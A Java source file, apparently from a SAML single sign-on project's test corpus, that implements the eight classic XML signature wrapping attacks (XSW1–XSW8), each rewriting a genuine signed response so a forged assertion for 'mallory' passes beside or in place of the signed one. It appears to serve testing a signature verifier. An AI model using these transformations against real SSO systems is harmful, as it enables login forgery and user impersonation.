package com.pickatime.sso.saml.response.corpus;

import static com.pickatime.sso.saml.response.idp.DraftResponse.child;
import static com.pickatime.sso.saml.response.idp.DraftResponse.deep;
import static com.pickatime.sso.saml.response.idp.DraftResponse.document;

import com.pickatime.sso.saml.xml.Saml;
import org.w3c.dom.Element;

/** The eight classic ways to wrap a signature, Somorovsky and others, On Breaking SAML, 2012. */
enum Wrapping {
    XSW1 {
        @Override
        void attack(Element response, String evilId) {
            var original = unsignedCopy(response);
            forge(response, evilId);
            child(response, "Signature").appendChild(original);
        }
    },
    XSW2 {
        @Override
        void attack(Element response, String evilId) {
            var original = unsignedCopy(response);
            forge(response, evilId);
            response.insertBefore(original, child(response, "Signature"));
        }
    },
    XSW3 {
        @Override
        void attack(Element response, String evilId) {
            var genuine = child(response, "Assertion");
            response.insertBefore(forge(unsignedCopy(genuine), evilId), genuine);
        }
    },
    XSW4 {
        @Override
        void attack(Element response, String evilId) {
            var genuine = child(response, "Assertion");
            var evil = forge(unsignedCopy(genuine), evilId);
            response.replaceChild(evil, genuine);
            evil.appendChild(genuine);
        }
    },
    XSW5 {
        @Override
        void attack(Element response, String evilId) {
            var assertion = child(response, "Assertion");
            response.appendChild(unsignedCopy(assertion));
            forge(assertion, evilId);
        }
    },
    XSW6 {
        @Override
        void attack(Element response, String evilId) {
            var assertion = child(response, "Assertion");
            var original = unsignedCopy(assertion);
            forge(assertion, evilId);
            child(assertion, "Signature").appendChild(original);
        }
    },
    XSW7 {
        @Override
        void attack(Element response, String evilId) {
            var extensions = document(response).createElementNS(Saml.PROTOCOL, "samlp:Extensions");
            extensions.appendChild(forge(unsignedCopy(child(response, "Assertion")), evilId));
            response.insertBefore(extensions, child(response, "Status"));
        }
    },
    XSW8 {
        @Override
        void attack(Element response, String evilId) {
            var assertion = child(response, "Assertion");
            var original = unsignedCopy(assertion);
            forge(assertion, evilId);
            var object = document(response).createElementNS(Saml.SIGNATURE, "ds:Object");
            object.appendChild(original);
            child(assertion, "Signature").appendChild(object);
        }
    };

    /** Changes a genuine, signed response; evilId is the ID that the forged element gets. */
    abstract void attack(Element response, String evilId);

    boolean onResponse() {
        return this == XSW1 || this == XSW2;
    }

    /** Makes the element speak of somebody else. */
    static Element forge(Element element, String evilId) {
        deep(element, "NameID").setTextContent("mallory");
        deep(element, "AttributeValue").setTextContent("source-666");
        element.setAttribute("ID", evilId);
        return element;
    }

    static Element unsignedCopy(Element element) {
        var copy = (Element) element.cloneNode(true);
        removeSignature(copy);
        return copy;
    }

    static void removeSignature(Element element) {
        element.removeChild(child(element, "Signature"));
    }
}
